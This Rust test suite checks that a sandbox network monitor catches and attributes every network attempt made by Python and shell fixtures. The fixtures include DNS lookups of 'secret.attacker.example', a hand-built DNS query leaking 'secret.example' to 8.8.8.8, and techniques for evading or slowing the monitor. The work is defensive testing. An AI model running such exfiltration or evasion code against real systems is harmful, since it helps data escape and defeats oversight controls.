//! Every attempt to reach the network is seen, told with who made it, and judged by the policy.

use super::harness::{Fixture, Ran};
use firsttry::frame::{Attempt, Bytes, Frame, HostEntry, Policy, Verdict};
use std::time::{Duration, Instant};

fn attempts(ran: &Ran) -> Vec<&Attempt> {
    ran.frames
        .iter()
        .filter_map(|frame| if let Frame::Attempt { attempt } = frame { Some(attempt) } else { None })
        .collect()
}

fn denied(ran: &Ran) -> Vec<String> {
    let of = |a: &&&Attempt| a.verdict == Verdict::Denied;
    attempts(ran)
        .iter()
        .filter(of)
        .map(|a| format!("{} {} {}:{} {}", a.call, a.protocol, a.address, a.port, a.name))
        .collect()
}

/// Python in a cell, with names for the things that attacks need.
fn python(script: &str) -> Fixture {
    Fixture::python(&format!(
        "import socket, os, errno
tcp = lambda f=socket.AF_INET: socket.socket(f, socket.SOCK_STREAM)
udp = lambda f=socket.AF_INET: socket.socket(f, socket.SOCK_DGRAM)
def attempt(action):
    try: action(); print('done')
    except socket.gaierror as e: print('no name', e.errno)
    except OSError as e: print(errno.errorcode[e.errno])
{script}"
    ))
}

#[test]
fn every_call_that_carries_an_address_is_seen() {
    let ran = python(
        "attempt(lambda: tcp().connect(('192.0.2.1', 80)))
attempt(lambda: tcp(socket.AF_INET6).connect(('2001:db8::1', 81)))
attempt(lambda: tcp(socket.AF_INET6).connect(('::ffff:192.0.2.2', 82)))
attempt(lambda: udp().sendto(b'x', ('192.0.2.3', 83)))
attempt(lambda: udp().sendmsg([b'x'], [], 0, ('192.0.2.4', 84)))
attempt(lambda: tcp().sendto(b'x', socket.MSG_FASTOPEN, ('192.0.2.5', 85)))
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
one = ctypes.create_string_buffer(struct.pack('=HH4s8x', 2, socket.htons(86), socket.inet_aton('127.0.0.1')))
two = ctypes.create_string_buffer(struct.pack('=HH4s8x', 2, socket.htons(87), socket.inet_aton('192.0.2.6')))
data = ctypes.create_string_buffer(b'x'); iov = ctypes.create_string_buffer(struct.pack('=QQ', ctypes.addressof(data), 1))
head = lambda a: struct.pack('=QQQQQQQQ', ctypes.addressof(a), 16, ctypes.addressof(iov), 1, 0, 0, 0, 0)
vec = ctypes.create_string_buffer(head(one) + head(two)); s = udp()
print(libc.sendmmsg(s.fileno(), vec, 2, 0))",
    )
    .run();
    assert_eq!(ran.passed(), "ENETUNREACH\nENETUNREACH\nENETUNREACH\nENETUNREACH\nENETUNREACH\nENETUNREACH\n1\n");
    assert_eq!(
        denied(&ran),
        [
            "connect tcp 192.0.2.1:80 ",
            "connect tcp 2001:db8::1:81 ",
            "connect tcp 192.0.2.2:82 ",
            "sendto udp 192.0.2.3:83 ",
            "sendmsg udp 192.0.2.4:84 ",
            "sendto tcp 192.0.2.5:85 ",
            "sendmmsg udp 192.0.2.6:87 ",
        ]
    );
}

#[test]
fn a_look_up_fails_at_once_and_the_name_is_told() {
    let start = Instant::now();
    let ran = python(
        "attempt(lambda: socket.getaddrinfo('secret.attacker.example', 443))
attempt(lambda: socket.gethostbyname('db'))
import subprocess
subprocess.run(['getent', 'hosts', 'by.getent.example'])
print(socket.gethostbyname('localhost'), socket.gethostbyname('a.localhost'), socket.gethostbyname(socket.gethostname()))",
    )
    .run();
    assert_eq!(ran.passed(), "no name -3\nno name -3\n127.0.0.1 127.0.0.1 127.0.0.1\n");
    assert!(start.elapsed() < Duration::from_secs(3));
    assert_eq!(
        denied(&ran),
        ["lookup dns :0 secret.attacker.example", "lookup dns :0 db", "lookup dns :0 by.getent.example"]
    );
    let by: Vec<&str> = attempts(&ran).iter().map(|a| a.process.split(' ').next().unwrap()).collect();
    assert_eq!(by, ["python3", "python3", "getent"]);
}

#[test]
fn a_question_to_another_name_server_tells_its_name_too() {
    let query = "b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x06secret\\x07example\\0\\0\\x01\\0\\x01'";
    let ran = python(&format!(
        "attempt(lambda: udp().sendto({query}, ('8.8.8.8', 53)))
attempt(lambda: tcp().connect(('8.8.8.8', 53)))
attempt(lambda: udp().connect(('8.8.8.8', 53)))"
    ))
    .run();
    ran.passed();
    assert_eq!(denied(&ran), ["sendto dns 8.8.8.8:53 secret.example", "connect dns 8.8.8.8:53 ",]);
}

#[test]
fn the_culprit_is_told_with_its_parents_and_its_words_are_harmless() {
    let ran = Fixture::sh(
        "sh -c 'python3 -c \"import socket, sys
try: socket.create_connection((chr(49)+\\\"92.0.2.1\\\", 80))
except OSError: pass\" \"$(printf \"\\033[2J\\nevil\")\"; true'; true",
    )
    .run();
    ran.passed();
    let all = attempts(&ran);
    let [attempt] = all.as_slice() else { panic!("{all:?}") };
    assert!(
        attempt.process.starts_with("python3 -c") && attempt.process.contains("\\u{1b}[2J\\u{a}evil"),
        "{attempt:?}"
    );
    assert!(attempt.process.chars().all(|c| !c.is_control()));
    assert_eq!(attempt.parents.len(), 2, "{attempt:?}");
    assert!(attempt.parents[0].contains(" sh -c python3"), "{attempt:?}");
    assert!(attempt.pid > 2);
}

#[test]
fn what_is_no_exchange_is_no_violation() {
    let ran = python(
        "attempt(lambda: udp().connect(('192.0.2.1', 9)))
attempt(lambda: socket.socket(socket.AF_UNIX).connect('/var/run/docker.sock'))
attempt(lambda: socket.socket(socket.AF_UNIX).connect('/var/run/nscd/socket'))
attempt(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).connect((0, 0)))
server = socket.create_server(('127.0.0.1', 0)); attempt(lambda: socket.create_connection(server.getsockname()))
left, right = socket.socketpair(); attempt(lambda: left.sendmsg([b'x'])); import multiprocessing
if __name__ == '__main__': attempt(lambda: multiprocessing.Manager().shutdown())",
    )
    .run();
    assert_eq!(ran.passed(), "ENETUNREACH\nENOENT\nENOENT\ndone\ndone\ndone\ndone\n");
    let notes: Vec<_> = attempts(&ran).iter().map(|a| (a.verdict, a.protocol.as_str(), a.address.as_str())).collect();
    assert_eq!(notes, [(Verdict::Note, "udp", "192.0.2.1"), (Verdict::Note, "unix", "/var/run/docker.sock")]);
}

#[test]
fn what_is_expected_to_be_refused_is_refused_quietly() {
    let quiet = vec![
        HostEntry { name: "flaky.example".into(), ..HostEntry::default() },
        HostEntry { address: Bytes(vec![192, 0, 2, 1]), port: 80, ..HostEntry::default() },
    ];
    let ran = python(
        "attempt(lambda: socket.getaddrinfo('Flaky.Example', 80))
attempt(lambda: tcp().connect(('192.0.2.1', 80)))
attempt(lambda: tcp().connect(('192.0.2.1', 81)))",
    )
    .with(|_, m| m.network = Policy { quiet, ..Policy::default() })
    .run();
    assert_eq!(ran.passed(), "no name -3\nENETUNREACH\nENETUNREACH\n");
    let verdicts: Vec<_> = attempts(&ran).iter().map(|a| a.verdict).collect();
    assert_eq!(verdicts, [Verdict::Quiet, Verdict::Quiet, Verdict::Denied]);
}

#[test]
fn a_flood_is_counted_and_bounded_and_the_timeout_still_comes() {
    let ran = python(
        "for n in range(20000):
    try: tcp().connect(('192.0.2.1', 80))
    except OSError: pass
for n in range(3000):
    try: udp().sendto(b'x', ('192.0.2.1', 1000 + n))
    except OSError: pass",
    )
    // Of its calls each waits for two processes to get a CPU of a machine that may be busy.
    .with(|_, m| m.timeout_ms = 300_000)
    .run();
    ran.passed();
    assert_eq!(attempts(&ran).len(), 1000);
    assert!(ran.frames.contains(&Frame::Repeated { id: 0, count: 20_000 }));
    assert!(ran.frames.contains(&Frame::Unlisted { count: 2001 }));
    let ran = python("while True:\n    attempt(lambda: tcp().connect(('192.0.2.1', 80)))")
        .with(|_, m| (m.timeout_ms, m.grace_ms, m.output_bytes) = (700, 200, 1000))
        .run();
    assert!(ran.ended().timed_out && ran.ended().wall_ms < 2000, "{:?}", ran.ended());
}

#[test]
fn harmless_attempts_do_not_hide_a_refused_one() {
    let ran = python(
        "for n in range(1500):
    try: udp().connect(('192.0.2.1', 1000 + n))
    except OSError: pass
attempt(lambda: tcp().connect(('192.0.2.9', 80)))",
    )
    .run();
    ran.passed();
    assert_eq!(denied(&ran), ["connect tcp 192.0.2.9:80 "]);
}

#[test]
fn a_process_that_hides_its_memory_is_a_violation_when_it_calls() {
    let script = "import ctypes, os, socket, shutil
print(ctypes.CDLL(None).prctl(4, 0), ctypes.CDLL(None).prctl(3))
shutil.copy(shutil.which('getent'), '/tmp/closed'); os.chmod('/tmp/closed', 0o111)
print(os.system('/tmp/closed hosts hidden.example'))";
    let ran = Fixture::python(script).run();
    // The first asks to be hidden, is told that it is, and is not.
    assert!(ran.passed().starts_with("0 1\n"), "{}", ran.output);
    let all = attempts(&ran);
    assert!(all.iter().any(|a| a.verdict == Verdict::Denied && a.why.contains("hides its memory")), "{all:?}");
    assert!(
        Fixture::python("import ctypes; c = ctypes.CDLL(None); print(c.prctl(4, 0), c.prctl(3))").control() == "0 0\n"
    );
}

#[test]
fn the_step_has_no_listener_of_its_own_and_no_answer_to_give() {
    // seccomp(SECCOMP_SET_MODE_FILTER, NEW_LISTENER, a program that allows everything) and SECCOMP_IOCTL_NOTIF_RECV.
    let script = "import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True); libc.prctl(38, 1, 0, 0, 0)
code = ctypes.create_string_buffer(struct.pack('=HBBI', 6, 0, 0, 0x7fff0000))
prog = ctypes.create_string_buffer(struct.pack('=H6xQ', 1, ctypes.addressof(code)))
print(libc.syscall(317, 1, 8, prog) >= 0, ctypes.get_errno())
buf = ctypes.create_string_buffer(200)
print(libc.ioctl(0, ctypes.c_ulong(0xc0502100), buf), ctypes.get_errno())";
    assert_eq!(Fixture::python(script).run().passed(), "False 1\n-1 1\n");
    assert!(Fixture::python(script).control().starts_with("True 0\n"));
}

/// Set in the process that another one watches.
const INSIDE: &str = "FT_TEST_INSIDE_A_WATCHER";

#[expect(clippy::disallowed_methods, reason = "what this test tells itself")]
fn is_inside() -> bool {
    std::env::var_os(INSIDE).is_some()
}

/// Inside another program that watches, the kernel gives no second listener: the walls hold, and that nothing is told
/// is said.
#[test]
fn inside_another_watcher_the_walls_hold_and_violations_are_said_to_be_unobservable() {
    let name = "witness::inside_another_watcher_the_walls_hold_and_violations_are_said_to_be_unobservable";
    if is_inside() {
        let ran = python("attempt(lambda: tcp().connect(('192.0.2.1', 80)))").run();
        assert_eq!(ran.passed(), "ENETUNREACH\n");
        let walls = &ran.finished().observed;
        let witness = walls.iter().find(|wall| wall.wall == "witness").unwrap();
        assert!(!witness.enforced && witness.detail.contains("not observable"), "{witness:?}");
        assert!(walls.iter().any(|wall| wall.wall == "network" && wall.enforced));
        // What is allowed can't be told from what is not there: PARITY-052, and no failure of ours.
        let allowed = HostEntry { address: Bytes(vec![192, 0, 2, 1]), ..HostEntry::default() };
        let ran = python("print('ran')")
            .with(|walls, m| {
                walls.network = firsttry::step::Network::Allow(vec!["192.0.2.1".into()]);
                m.network = Policy { mode: Policy::LISTED, allowed: vec![allowed], quiet: vec![] };
            })
            .run();
        let error = ran.result.as_ref().unwrap_err();
        assert!(error.is_unenforceable() && error.to_string().contains("watched"), "{error}");
        assert_eq!(ran.output, "");
        return;
    }
    let script = "import ctypes, os, struct, sys
libc = ctypes.CDLL(None, use_errno=True); libc.prctl(38, 1, 0, 0, 0)
code = ctypes.create_string_buffer(struct.pack('=HBBI', 6, 0, 0, 0x7fff0000))
prog = ctypes.create_string_buffer(struct.pack('=H6xQ', 1, ctypes.addressof(code)))
fd = libc.syscall(317, 1, 8, prog); assert fd >= 0, ctypes.get_errno()
os.set_inheritable(fd, True); os.execv(sys.argv[1], sys.argv[1:])";
    let output = std::process::Command::new("python3")
        .args(["-c", script])
        .arg(std::env::current_exe().unwrap())
        .args(["--exact", name])
        .env(INSIDE, "1")
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&output.stdout);
    assert!(output.status.success() && said.contains("1 passed"), "{said}{}", String::from_utf8_lossy(&output.stderr));
}

#[test]
fn the_test_that_runs_is_told() {
    let script = "import os, struct, socket
def say(text, sequence):
    with open(os.environ['FT_WITNESS'], 'r+b') as f:
        f.seek(os.getpid() % 64 * 4096); f.write(struct.pack('<III', sequence, os.getpid(), len(text)) + text)
def go():
    try: socket.create_connection(('192.0.2.1', 80))
    except OSError: pass
go(); say(b'tests/test_a.py::test_one', 2); go()
pid = os.fork()
if pid == 0: go(); os._exit(0)
os.waitpid(pid, 0); say(b'', 4); go()";
    let ran = Fixture::python(script).with(|_, m| m.env.push(("FT_WITNESS".into(), "/ft/witness".into()))).run();
    ran.passed();
    let tests: Vec<_> = attempts(&ran).iter().map(|a| a.test.as_str()).collect();
    assert_eq!(tests, ["", "tests/test_a.py::test_one"]);
    assert!(ran.frames.contains(&Frame::Repeated { id: 0, count: 2 }));
    assert!(ran.frames.contains(&Frame::Repeated { id: 1, count: 2 }));
}

/// Memory of memfd_secret(2) is read by the kernel for its owner, and by nobody else.
#[test]
fn an_address_that_only_the_kernel_can_read_is_no_way_around_the_witness() {
    let script = "import ctypes, mmap, socket, struct, os
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.syscall(447, 0)
print('secret', fd >= 0)
if fd < 0: raise SystemExit
os.ftruncate(fd, 4096); memory = mmap.mmap(fd, 4096)
server = socket.create_server(('127.0.0.1', 0))
memory[:16] = struct.pack('=HH4s8x', 2, socket.htons(server.getsockname()[1]), socket.inet_aton('127.0.0.1'))
at = ctypes.addressof(ctypes.c_char.from_buffer(memory)); s = socket.socket()
print('connect', libc.connect(s.fileno(), ctypes.c_void_p(at), 16))
try: open('/proc/self/mem', 'rb').read(1) and os.pread(os.open('/proc/self/mem', 0), 16, at); print('read')
except OSError: print('unread')";
    assert_eq!(Fixture::python(script).run().passed(), "secret False\n");
    // A kernel before 6.5 has none unless it was asked to.
    let control = Fixture::python(script).control();
    assert!(["secret True\nconnect 0\nunread\n", "secret False\n"].contains(&control.as_str()), "{control}");
}

/// What several tests of sendmmsg need: `message(address)` and `send(messages, more)`.
const MESSAGES: &str = "
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
keep = []
def bytes_at(b): keep.append(ctypes.create_string_buffer(b, len(b))); return ctypes.addressof(keep[-1])
def message(host, port, data=b'x'):
    a = bytes_at(struct.pack('=HH4s8x', 2, socket.htons(port), socket.inet_aton(host)))
    return struct.pack('=QQQQQQQQ', a, 16, bytes_at(struct.pack('=QQ', bytes_at(data), len(data))), 1, 0, 0, 0, 0)
";

#[test]
fn a_message_that_can_not_be_read_hides_none_of_those_before_it() {
    let script = |host: &str, port: u16| {
        format!(
            "{MESSAGES}
bad = struct.pack('=QQQQQQQQ', 8, 16, 8, 1, 0, 0, 0, 0)
one, other = udp(), tcp()
sent = libc.sendmmsg(one.fileno(), ctypes.c_void_p(bytes_at(message('{host}', {port}) + bad)), 2, 0)
print(sent, ctypes.get_errno())
print(libc.connect(other.fileno(), ctypes.c_void_p(8), 16), ctypes.get_errno())"
        )
    };
    let ran = python(&script("192.0.2.1", 83)).run();
    // The first finds no route; an address that is not there is a fault.
    assert_eq!(ran.passed(), "-1 101\n-1 14\n");
    assert_eq!(denied(&ran), ["sendmmsg udp 192.0.2.1:83 "]);
    // The control: without walls the first one goes out.
    let server = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    assert!(python(&script("127.0.0.1", server.local_addr().unwrap().port())).control().starts_with("1 "));
    server.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    assert_eq!(server.recv(&mut [0; 8]).unwrap(), 1);
}

/// Whatever the step does to make the witness slow: the signal comes when it is due.
#[test]
fn calls_that_are_made_to_be_slow_do_not_hold_up_the_timeout() {
    // A thousand questions in one call, each of a process with a command line of megabytes below others like it.
    let vector = format!(
        "{MESSAGES}
import sys
if len(sys.argv) < 6:
    os.execv(sys.executable, [sys.executable, '-c', open('attack.py').read()] + sys.argv[1:] + ['deeper'] * 6 + ['x' * 120000] * 14)
for n in range(6):
    if os.fork(): os.wait(); os._exit(0)
question = b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x06secret\\x07example\\0\\0\\x01\\0\\x01'
vector = bytes_at(message('8.8.8.8', 53, question) * 1024); s = udp()
print('slow', flush=True)
while True: libc.sendmmsg(s.fileno(), ctypes.c_void_p(vector), 1024, 0)"
    );
    // Questions from a socket that is looked for in vain, among thousands.
    let questions = "
import resource
most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]; resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
sockets = [udp() for n in range(3000)]
asking = udp(); asking.connect(('127.0.0.53', 53))
if os.fork() == 0:
    n = 0
    while True:
        n += 1; asking.send(b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x08%08d\\x07example\\0\\0\\x01\\0\\x01' % n)
asking.close()
print('slow', flush=True)
while True:
    u = udp(); u.connect(('127.0.0.53', 53)); u.close()";
    for script in [vector.as_str(), questions] {
        let fixture = python("exec(open('attack.py').read())").with(|_, m| (m.timeout_ms, m.grace_ms) = (3000, 300));
        let whole = format!(
            "import socket, os
udp = lambda f=socket.AF_INET: socket.socket(f, socket.SOCK_DGRAM)
{script}"
        );
        std::fs::write(fixture.tree().join("attack.py"), whole).unwrap();
        super::harness::give_to_step(&fixture.tree());
        let ran = fixture.run();
        assert!(ran.output.contains("slow"), "the attack did not run: {}{}", ran.output, ran.error);
        // Timeout, grace and the second that the design gives.
        assert!(ran.ended().timed_out && ran.ended().wall_ms < 4300, "{:?}", ran.ended());
        assert!(!denied(&ran).is_empty());
    }
}

#[test]
fn a_look_up_is_counted_once_whatever_the_library_asks() {
    let times = |ran: &Ran| {
        ran.frames.iter().find_map(|f| if let Frame::Repeated { count, .. } = f { Some(*count) } else { None })
    };
    for (call, made, counted) in [
        ("socket.getaddrinfo('a.example', 80)", 1, None),
        ("socket.gethostbyname('a.example')", 1, None),
        ("socket.getaddrinfo('a.example', 80)", 3, Some(3)),
    ] {
        let ran = python(&format!("for n in range({made}): attempt(lambda: {call})")).run();
        assert_eq!(ran.passed(), "no name -3\n".repeat(made));
        assert_eq!((denied(&ran), times(&ran)), (vec!["lookup dns :0 a.example".to_owned()], counted), "{call}");
    }
}

#[test]
fn whose_a_loopback_address_is_nobody_outside_is_asked() {
    let script =
        "print(socket.getnameinfo(('127.0.0.2', 80), 0)[0], socket.getnameinfo(('::1', 80), socket.NI_NUMERICSERV)[1])
attempt(lambda: socket.getnameinfo(('192.0.2.1', 80), 0))";
    let ran = python(script).run();
    assert_eq!(ran.passed(), "127.0.0.2 80\nno name -3\n");
    assert_eq!(denied(&ran), ["lookup dns :0 1.2.0.192.in-addr.arpa"]);
}
